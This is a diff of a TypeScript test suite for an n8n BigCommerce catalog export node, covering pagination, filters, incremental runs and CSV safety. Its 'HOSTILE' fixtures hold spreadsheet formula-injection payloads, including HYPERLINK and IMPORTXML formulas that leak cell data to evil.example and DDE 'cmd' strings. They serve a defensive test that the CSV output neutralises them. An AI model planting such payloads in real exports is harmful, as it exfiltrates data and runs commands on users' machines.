@@ -2,7 +2,7 @@ import { NodeOperationError, sleep } from 'n8n-workflow';
 
 import { startSandbox, type Json, type SandboxHandle } from '../../helpers/sandbox';
 import { csvCell } from '../../../nodes/BigCommerce/actions/product/exportCatalog.operation';
-import { runNode, runNodeError } from './helpers';
+import { runNode, runNodeError } from '../../helpers/node';
 
 const base = { resource: 'product', operation: 'exportCatalog', simplify: true };
 
@@ -19,7 +19,12 @@ describe('Product → Export Catalog (600 products)', () => {
 		expect(requests).toHaveLength(3);
 		for (const r of requests) {
 			expect(r).toMatchObject({ method: 'GET', path: '/catalog/products' });
-			expect(r.query).toMatchObject({ include: 'variants,images,custom_fields,videos', limit: '250', sort: 'id', direction: 'asc' });
+			expect(r.query).toMatchObject({
+				include: 'variants,images,custom_fields,videos',
+				limit: '250',
+				sort: 'id',
+				direction: 'asc',
+			});
 		}
 		// the whole catalog: page numbers (page 1 first, then the others at once), no keyset cursor
 		expect(requests[0].query.page).toBe('1');
@@ -27,36 +32,72 @@ describe('Product → Export Catalog (600 products)', () => {
 		expect(requests.every((r) => r.query['id:greater'] === undefined)).toBe(true);
 		expect(json).toHaveLength(600);
 		const p = json[7] as Json;
-		expect(Object.keys(p)).toEqual(expect.arrayContaining(['id', 'name', 'variants', 'images', 'custom_fields', 'videos', 'in_stock', 'description']));
+		expect(Object.keys(p)).toEqual(
+			expect.arrayContaining([
+				'id',
+				'name',
+				'variants',
+				'images',
+				'custom_fields',
+				'videos',
+				'in_stock',
+				'description',
+			]),
+		);
 		expect(json[0].videos).toHaveLength(1);
 	});
 
 	it('"visible and in stock only" leaves out exactly the hidden and out-of-stock products', async () => {
-		const { json, requests } = await runNode(sandbox, { ...base, options: { visibleInStockOnly: true } });
+		const { json, requests } = await runNode(sandbox, {
+			...base,
+			options: { visibleInStockOnly: true },
+		});
 		expect(requests.every((r) => r.query.is_visible === 'true')).toBe(true);
 		// a filtered list gains members anywhere in id order: read by keyset, one page after the other
 		expect(requests.map((r) => r.query.page)).toEqual([undefined, undefined, undefined]);
 		expect(requests.map((r) => r.query['id:greater'] !== undefined)).toEqual([false, true, true]);
-		const hidden = all().filter((p) => !p.is_visible).map((p) => p.id);
+		const hidden = all()
+			.filter((p) => !p.is_visible)
+			.map((p) => p.id);
 		const soldOut = all()
-			.filter((p) => p.inventory_tracking === 'variant' && p.variants.every((v: Json) => v.inventory_level === 0))
+			.filter(
+				(p) =>
+					p.inventory_tracking === 'variant' &&
+					p.variants.every((v: Json) => v.inventory_level === 0),
+			)
 			.map((p) => p.id);
 		expect(hidden.length).toBe(60);
 		expect(soldOut.length).toBe(60);
 		const excluded = new Set([...hidden, ...soldOut]);
-		expect(json.map((p) => p.id)).toEqual(all().filter((p) => !excluded.has(p.id)).map((p) => p.id));
+		expect(json.map((p) => p.id)).toEqual(
+			all()
+				.filter((p) => !excluded.has(p.id))
+				.map((p) => p.id),
+		);
 		// partly sold-out products (some variants at 0) stay
 		expect(json.map((p) => p.id)).toContain(10);
-		expect(all().find((p) => p.id === 10).variants.some((v: Json) => v.inventory_level === 0)).toBe(true);
+		expect(
+			all()
+				.find((p) => p.id === 10)
+				.variants.some((v: Json) => v.inventory_level === 0),
+		).toBe(true);
 	});
 
 	it('excludes products restricted to customer groups', async () => {
-		const { json, requests } = await runNode(sandbox, { ...base, options: { excludeRestricted: true } });
+		const { json, requests } = await runNode(sandbox, {
+			...base,
+			options: { excludeRestricted: true },
+		});
 		expect(requests[0]).toMatchObject({ method: 'GET', version: 'v2', path: '/customer_groups' });
 		// the seed's "Wholesale Exclusives" category is kept out of the seeded customer groups' access
-		const RESTRICTED_CATEGORY_ID = [...(sandbox.state.catalog.categories as Map<number, Json>).values()].find((c) => c.name === 'Wholesale Exclusives').id;
+		const RESTRICTED_CATEGORY_ID = [
+			...(sandbox.state.catalog.categories as Map<number, Json>).values(),
+		].find((c) => c.name === 'Wholesale Exclusives').id;
 		const restricted = all()
-			.filter((p) => p.categories.length && p.categories.every((c: number) => c === RESTRICTED_CATEGORY_ID))
+			.filter(
+				(p) =>
+					p.categories.length && p.categories.every((c: number) => c === RESTRICTED_CATEGORY_ID),
+			)
 			.map((p) => p.id);
 		expect(restricted.length).toBe(40);
 		expect(json).toHaveLength(600 - restricted.length);
@@ -66,19 +107,32 @@ describe('Product → Export Catalog (600 products)', () => {
 	});
 
 	it('without the customer-group scope it still exports, with a notice', async () => {
-		const token = sandbox.addToken('catalog-only-token-0123456789', ['store_v2_products_read_only']);
-		const { json, requests } = await runNode(sandbox, { ...base, options: { excludeRestricted: true } }, { token });
+		const token = sandbox.addToken('catalog-only-token-0123456789', [
+			'store_v2_products_read_only',
+		]);
+		const { json, requests } = await runNode(
+			sandbox,
+			{ ...base, options: { excludeRestricted: true } },
+			{ token },
+		);
 		expect(requests[0]).toMatchObject({ path: '/customer_groups', status: 403 });
 		expect(json).toHaveLength(600);
 		expect(String(json[0].notice)).toMatch(/NOT applied.*store_v2_customers_read_only/);
 	});
 
 	it('adds a CSV file on a summary item', async () => {
-		const { out } = await runNode(sandbox, { ...base, options: { fileFormat: 'csv', channelIds: '2' } });
+		const { out } = await runNode(sandbox, {
+			...base,
+			options: { fileFormat: 'csv', channelIds: '2' },
+		});
 		const summary = out[out.length - 1];
 		const onChannel2 = all().filter((p) => p.channels.includes(2));
 		expect(out).toHaveLength(onChannel2.length + 1);
-		expect(summary.json).toMatchObject({ summary: true, exported: onChannel2.length, api_calls: 1 });
+		expect(summary.json).toMatchObject({
+			summary: true,
+			exported: onChannel2.length,
+			api_calls: 1,
+		});
 		const file = summary.binary?.data as Json;
 		expect(file.mimeType).toBe('text/csv');
 		expect(file.fileName).toMatch(/^catalog-export-.*\.csv$/);
@@ -93,21 +147,44 @@ describe('Product → Export Catalog (600 products)', () => {
 	});
 
 	it('adds a JSON Lines file', async () => {
-		const { out } = await runNode(sandbox, { ...base, options: { fileFormat: 'jsonl', binaryProperty: 'catalog', visibleInStockOnly: true } });
+		const { out } = await runNode(sandbox, {
+			...base,
+			options: { fileFormat: 'jsonl', binaryProperty: 'catalog', visibleInStockOnly: true },
+		});
 		const summary = out[out.length - 1];
 		const text = Buffer.from((summary.binary?.catalog as Json).data, 'base64').toString('utf8');
-		const rows = text.trim().split('\n').map((line) => JSON.parse(line));
+		const rows = text
+			.trim()
+			.split('\n')
+			.map((line) => JSON.parse(line));
 		expect(rows).toHaveLength(out.length - 1);
 		expect(rows[0]).toEqual(JSON.parse(JSON.stringify(out[0].json)));
-		expect(summary.json.skipped).toEqual({ hidden: 0, out_of_stock: 60, restricted: 0, unchanged: 0 });
+		expect(summary.json.skipped).toEqual({
+			hidden: 0,
+			out_of_stock: 60,
+			restricted: 0,
+			unchanged: 0,
+		});
 	});
 
 	it('without Simplify returns the full records but still writes the simplified file', async () => {
-		const { out, requests } = await runNode(sandbox, { ...base, simplify: false, options: { fileFormat: 'jsonl' } });
+		const { out, requests } = await runNode(sandbox, {
+			...base,
+			simplify: false,
+			options: { fileFormat: 'jsonl' },
+		});
 		expect(requests).toHaveLength(3);
 		expect(out).toHaveLength(601);
-		expect(out[0].json).toMatchObject({ id: 1, open_graph_type: 'product', variants: expect.any(Array) });
-		const first = JSON.parse(Buffer.from((out[600].binary?.data as Json).data, 'base64').toString('utf8').split('\n')[0]);
+		expect(out[0].json).toMatchObject({
+			id: 1,
+			open_graph_type: 'product',
+			variants: expect.any(Array),
+		});
+		const first = JSON.parse(
+			Buffer.from((out[600].binary?.data as Json).data, 'base64')
+				.toString('utf8')
+				.split('\n')[0],
+		);
 		expect(first.id).toBe(1);
 		expect(first.open_graph_type).toBeUndefined();
 		expect(first.in_stock).toBe(true);
@@ -116,7 +193,10 @@ describe('Product → Export Catalog (600 products)', () => {
 	it.each([
 		[{ channelIds: 'one' }, /"Channel IDs" must be a comma-separated list/],
 		[{ fileFormat: 'csv', binaryProperty: 'bad name' }, /"Binary Property" must be a name/],
-		[{ fileFormat: 'csv', addBom: 'no' }, /"Add Byte Order Mark \(BOM\)" must be true or false; got "no"/],
+		[
+			{ fileFormat: 'csv', addBom: 'no' },
+			/"Add Byte Order Mark \(BOM\)" must be true or false; got "no"/,
+		],
 	])('rejects %j before any request', async (options, message) => {
 		const { error, requests } = await runNodeError(sandbox, { ...base, options });
 		expect(error).toBeInstanceOf(NodeOperationError);
@@ -142,12 +222,19 @@ describe('Product → Export Catalog, incremental', () => {
 		expect(Date.parse(cursor.startedAt)).toBeGreaterThan(Date.now() - 60_000);
 
 		for (const id of [3, 17, 29]) {
-			await runNode(sandbox, { resource: 'product', operation: 'update', productId: { __rl: true, mode: 'id', value: String(id) }, updateFields: { price: 1 } });
+			await runNode(sandbox, {
+				resource: 'product',
+				operation: 'update',
+				productId: { __rl: true, mode: 'id', value: String(id) },
+				updateFields: { price: 1 },
+			});
 		}
 
 		const second = await runNode(sandbox, params, { staticData });
 		const since = second.requests[0].query['date_modified:min'];
-		expect(Date.parse(since)).toBe(Math.floor((Date.parse(cursor.startedAt) - 10 * 60 * 1000) / 1000) * 1000);
+		expect(Date.parse(since)).toBe(
+			Math.floor((Date.parse(cursor.startedAt) - 10 * 60 * 1000) / 1000) * 1000,
+		);
 		expect(second.json.map((p) => p.id)).toEqual([3, 17, 29]);
 
 		const third = await runNode(sandbox, params, { staticData });
@@ -155,7 +242,11 @@ describe('Product → Export Catalog, incremental', () => {
 		// runs close together: a product returned two runs ago is still inside the overlap window
 		const fourth = await runNode(sandbox, params, { staticData });
 		expect(fourth.json).toEqual([]);
-		expect(Object.keys((staticData as Json).productExportCatalog.recent).sort()).toEqual(['17', '29', '3']);
+		expect(Object.keys((staticData as Json).productExportCatalog.recent).sort()).toEqual([
+			'17',
+			'29',
+			'3',
+		]);
 	});
 });
 
@@ -167,7 +258,9 @@ describe('Product → Export Catalog while the catalog changes', () => {
 	afterEach(async () => sandbox.close());
 	const products = () => sandbox.state.catalog.products as Map<number, Json>;
 	const route = (method: string, pattern: string) =>
-		(sandbox.routes as Json[]).find((r) => r.method === method && r.version === 'v3' && r.pattern === pattern);
+		(sandbox.routes as Json[]).find(
+			(r) => r.method === method && r.version === 'v3' && r.pattern === pattern,
+		);
 	/** Runs `change` once, just before the sandbox answers the second catalog page request. */
 	const beforeSecondPage = (change: () => Promise<void> | void) => {
 		let pages = 0;
@@ -178,7 +271,15 @@ describe('Product → Export Catalog while the catalog changes', () => {
 		});
 	};
 	const createProduct = async (name: string) =>
-		(await route('POST', '/catalog/products').handler({ method: 'POST', path: '/catalog/products', query: {}, params: {}, body: { name, type: 'physical', weight: 1, price: 5 } })).body.data.id as number;
+		(
+			await route('POST', '/catalog/products').handler({
+				method: 'POST',
+				path: '/catalog/products',
+				query: {},
+				params: {},
+				body: { name, type: 'physical', weight: 1, price: 5 },
+			})
+		).body.data.id as number;
 
 	it('products deleted after the first page neither hide nor repeat others (total changed: the rest by keyset)', async () => {
 		beforeSecondPage(() => {
@@ -191,7 +292,13 @@ describe('Product → Export Catalog while the catalog changes', () => {
 		expect(ids.filter((id) => id > 250)).toEqual([...products().keys()].filter((id) => id > 250));
 		expect(ids).toHaveLength(600);
 		// page 1, pages 2 and 3 (they report 590: changed), then keyset after page 1's last id
-		expect(requests.map((r) => r.query['id:greater'] ?? `page ${r.query.page}`)).toEqual(['page 1', expect.stringMatching(/^page [23]$/), expect.stringMatching(/^page [23]$/), '250', '500']);
+		expect(requests.map((r) => r.query['id:greater'] ?? `page ${r.query.page}`)).toEqual([
+			'page 1',
+			expect.stringMatching(/^page [23]$/),
+			expect.stringMatching(/^page [23]$/),
+			'250',
+			'500',
+		]);
 	});
 
 	it('a product created and one deleted between pages (same total) skip nothing and repeat nothing', async () => {
@@ -210,18 +317,26 @@ describe('Product → Export Catalog while the catalog changes', () => {
 		// every product present during the whole export, the one created, and 5 (read before it went)
 		expect(ids).toEqual([...Array(601).keys()].map((k) => k + 1));
 		// page 3 showed the new product: the rest after page 1 was read again by keyset
-		expect(requests.map((r) => r.query['id:greater'] ?? 'page')).toEqual(['page', 'page', 'page', '250', '500']);
+		expect(requests.map((r) => r.query['id:greater'] ?? 'page')).toEqual([
+			'page',
+			'page',
+			'page',
+			'250',
+			'500',
+		]);
 	});
 
 	it('a creation and a deletion between pages whose new product is never read: one product short, so keyset', async () => {
 		// page 3 is answered first; then product 5 goes, a product is created, and page 2 is answered
 		let page3Answered = false;
 		(sandbox.observers as Json[]).push((exchange: Json) => {
-			if (exchange.ctx.path === '/catalog/products' && exchange.ctx.query.page === '3') page3Answered = true;
+			if (exchange.ctx.path === '/catalog/products' && exchange.ctx.query.page === '3')
+				page3Answered = true;
 		});
 		let created = 0;
 		(sandbox.middlewares as Json[]).push(async (ctx: Json) => {
-			if (ctx.method !== 'GET' || ctx.path !== '/catalog/products' || ctx.query.page !== '2') return undefined;
+			if (ctx.method !== 'GET' || ctx.path !== '/catalog/products' || ctx.query.page !== '2')
+				return undefined;
 			for (let wait = 0; wait < 250 && !page3Answered; wait++) await sleep(20);
 			products().delete(5);
 			created = await createProduct('Created during the export');
@@ -236,7 +351,13 @@ describe('Product → Export Catalog while the catalog changes', () => {
 		expect(new Set(ids).size).toBe(ids.length);
 		expect(ids).toContain(251);
 		expect(ids).toEqual([...Array(601).keys()].map((k) => k + 1));
-		expect(requests.map((r) => r.query['id:greater'] ?? 'page')).toEqual(['page', 'page', 'page', '250', '500']);
+		expect(requests.map((r) => r.query['id:greater'] ?? 'page')).toEqual([
+			'page',
+			'page',
+			'page',
+			'250',
+			'500',
+		]);
 	});
 
 	it('reads the pages after the first concurrently (4 in flight)', async () => {
@@ -264,7 +385,12 @@ describe('Product → Export Catalog while the catalog changes', () => {
 		expect(json.map((p) => p.id)).toEqual([...products().keys()].sort((a, b) => a - b));
 		expect(requests).toHaveLength(5);
 		expect(requests[0].query.page).toBe('1');
-		expect(requests.slice(1).map((r) => r.query.page).sort()).toEqual(['2', '3', '4', '5']);
+		expect(
+			requests
+				.slice(1)
+				.map((r) => r.query.page)
+				.sort(),
+		).toEqual(['2', '3', '4', '5']);
 		expect(maxInFlight).toBe(4);
 	});
 });
@@ -309,7 +435,11 @@ describe('Product → Export Catalog: a CSV that is safe to open in a spreadshee
 	const createProduct = async (product: Json): Promise<number> => {
 		const answer = await fetch(`${sandbox.apiPath('v3')}/catalog/products`, {
 			method: 'POST',
-			headers: { 'X-Auth-Token': sandbox.accessToken, 'Content-Type': 'application/json', Accept: 'application/json' },
+			headers: {
+				'X-Auth-Token': sandbox.accessToken,
+				'Content-Type': 'application/json',
+				Accept: 'application/json',
+			},
 			body: JSON.stringify({ type: 'physical', weight: 1, price: 10, ...product }),
 		});
 		expect(answer.status).toBe(200);
@@ -325,26 +455,73 @@ describe('Product → Export Catalog: a CSV that is safe to open in a spreadshee
 		const byId = new Map<number, Record<string, string>>();
 		for (const cells of rows) {
 			expect(cells).toHaveLength(header.length);
-			byId.set(Number(cells[0]), Object.fromEntries(header.map((column, at) => [column, cells[at]])));
+			byId.set(
+				Number(cells[0]),
+				Object.fromEntries(header.map((column, at) => [column, cells[at]])),
+			);
 		}
 		return { out, bytes, header, byId };
 	};
 
 	/** Hostile catalog text, and the description cell expected (the description is exported as plain text). */
 	const HOSTILE = [
-		{ name: '=HYPERLINK("http://evil.example/?leak="&A1,"Click for a discount")', sku: '=1+1', description: "<p>=cmd|' /C calc'!A0</p>", csvDescription: "'=cmd|' /C calc'!A0" },
-		{ name: "+SUM(1+1)*cmd|' /C notepad'!A0", sku: '+44-SKU', description: '<p>+1 great product</p>', csvDescription: "'+1 great product" },
-		{ name: "-2+3+cmd|' /C calc'!A0", sku: '-5', description: '-10% off today', csvDescription: "'-10% off today" },
-		{ name: '@SUM(1+1)', sku: '@SKU', description: '<ul><li>a list first</li></ul>', csvDescription: "'- a list first" },
-		{ name: '\t=1+1 tabbed', sku: '\tTAB-1', description: '<p>&#61;1+1 (an entity)</p>', csvDescription: "'=1+1 (an entity)" },
-		{ name: '\r=1+1 carriage return', sku: '\rCR-SKU', description: '\r\n=2+2 after a line break', csvDescription: "'=2+2 after a line break" },
-		{ name: '   =1+1 after spaces', sku: '\uFF1D1+1', description: '＠fullwidth at', csvDescription: "'＠fullwidth at" },
+		{
+			name: '=HYPERLINK("http://evil.example/?leak="&A1,"Click for a discount")',
+			sku: '=1+1',
+			description: "<p>=cmd|' /C calc'!A0</p>",
+			csvDescription: "'=cmd|' /C calc'!A0",
+		},
+		{
+			name: "+SUM(1+1)*cmd|' /C notepad'!A0",
+			sku: '+44-SKU',
+			description: '<p>+1 great product</p>',
+			csvDescription: "'+1 great product",
+		},
+		{
+			name: "-2+3+cmd|' /C calc'!A0",
+			sku: '-5',
+			description: '-10% off today',
+			csvDescription: "'-10% off today",
+		},
+		{
+			name: '@SUM(1+1)',
+			sku: '@SKU',
+			description: '<ul><li>a list first</li></ul>',
+			csvDescription: "'- a list first",
+		},
+		{
+			name: '\t=1+1 tabbed',
+			sku: '\tTAB-1',
+			description: '<p>&#61;1+1 (an entity)</p>',
+			csvDescription: "'=1+1 (an entity)",
+		},
+		{
+			name: '\r=1+1 carriage return',
+			sku: '\rCR-SKU',
+			description: '\r\n=2+2 after a line break',
+			csvDescription: "'=2+2 after a line break",
+		},
+		{
+			name: '   =1+1 after spaces',
+			sku: '\uFF1D1+1',
+			description: '＠fullwidth at',
+			csvDescription: "'＠fullwidth at",
+		},
 	];
 
 	it('neutralises text cells that start like a formula (names, SKUs, variant SKUs, descriptions); numbers stay as they are', async () => {
 		const ids: number[] = [];
 		for (const { name, sku, description } of HOSTILE) {
-			ids.push(await createProduct({ name, sku, description, custom_fields: [{ name: 'note', value: '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")' }] }));
+			ids.push(
+				await createProduct({
+					name,
+					sku,
+					description,
+					custom_fields: [
+						{ name: 'note', value: '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")' },
+					],
+				}),
+			);
 		}
 		const { byId, out } = await exportCsv();
 		const stored = (id: number) => (sandbox.state.catalog.products as Map<number, Json>).get(id);
@@ -364,7 +541,10 @@ describe('Product → Export Catalog: a CSV that is safe to open in a spreadshee
 			expect(row.inventory_level).toBe(String(stored(id).inventory_level));
 			// no cell of the row starts like a formula any more
 			for (const [column, cell] of Object.entries(row)) {
-				expect({ column, formula: /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell.trimStart()) }).toEqual({ column, formula: false });
+				expect({
+					column,
+					formula: /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell.trimStart()),
+				}).toEqual({ column, formula: false });
 			}
 			// the items themselves keep BigCommerce's values (only the file is neutralised)
 			expect(item.name).toBe(HOSTILE[at].name);
@@ -377,18 +557,41 @@ describe('Product → Export Catalog: a CSV that is safe to open in a spreadshee
 	});
 
 	it('a cell holding a number (a price of -5, category IDs) is written as the number; the same text is neutralised', () => {
-		expect([csvCell(-5), csvCell(-0.5), csvCell([-1, 2]), csvCell(true), csvCell(null)]).toEqual(['-5', '-0.5', '-1;2', 'true', '']);
-		expect([csvCell('-5'), csvCell(['=A1', 'B']), csvCell('+1, or "more"')]).toEqual(["'-5", "'=A1;B", `"'+1, or ""more"""`]);
+		expect([csvCell(-5), csvCell(-0.5), csvCell([-1, 2]), csvCell(true), csvCell(null)]).toEqual([
+			'-5',
+			'-0.5',
+			'-1;2',
+			'true',
+			'',
+		]);
+		expect([csvCell('-5'), csvCell(['=A1', 'B']), csvCell('+1, or "more"')]).toEqual([
+			"'-5",
+			"'=A1;B",
+			`"'+1, or ""more"""`,
+		]);
 	});
 
 	it('JSON Lines is left as it is (hostile names and custom fields included)', async () => {
-		const id = await createProduct({ name: '=2+5 jsonl', sku: '@JSONL', custom_fields: [{ name: 'cmd', value: "=cmd|' /C calc'!A0" }] });
+		const id = await createProduct({
+			name: '=2+5 jsonl',
+			sku: '@JSONL',
+			custom_fields: [{ name: 'cmd', value: "=cmd|' /C calc'!A0" }],
+		});
 		const { out } = await runNode(sandbox, { ...base, options: { fileFormat: 'jsonl' } });
 		const summary = out[out.length - 1];
 		const bytes = Buffer.from((summary.binary?.data as Json).data, 'base64');
 		expect(bytes[0]).toBe('{'.charCodeAt(0));
-		const row = bytes.toString('utf8').trim().split('\n').map((line) => JSON.parse(line)).find((p) => p.id === id);
-		expect(row).toMatchObject({ name: '=2+5 jsonl', sku: '@JSONL', custom_fields: [{ name: 'cmd', value: "=cmd|' /C calc'!A0" }] });
+		const row = bytes
+			.toString('utf8')
+			.trim()
+			.split('\n')
+			.map((line) => JSON.parse(line))
+			.find((p) => p.id === id);
+		expect(row).toMatchObject({
+			name: '=2+5 jsonl',
+			sku: '@JSONL',
+			custom_fields: [{ name: 'cmd', value: "=cmd|' /C calc'!A0" }],
+		});
 	});
 
 	it('starts the CSV with a UTF-8 byte order mark by default, so accented names open correctly; the option turns it off', async () => {
@@ -396,7 +599,10 @@ describe('Product → Export Catalog: a CSV that is safe to open in a spreadshee
 		const withBom = await exportCsv();
 		expect([...withBom.bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
 		expect(withBom.bytes.subarray(3, 6).toString('utf8')).toBe('id,');
-		expect(withBom.byId.get(id)).toMatchObject({ name: 'Crème brûlée façon Müller – Ñandú', sku: 'ÉTÉ-1' });
+		expect(withBom.byId.get(id)).toMatchObject({
+			name: 'Crème brûlée façon Müller – Ñandú',
+			sku: 'ÉTÉ-1',
+		});
 		const withoutBom = await exportCsv({ addBom: false });
 		expect(withoutBom.bytes.subarray(0, 3).toString('utf8')).toBe('id,');
 		expect(withoutBom.byId.get(id)).toMatchObject({ name: 'Crème brûlée façon Müller – Ñandú' });
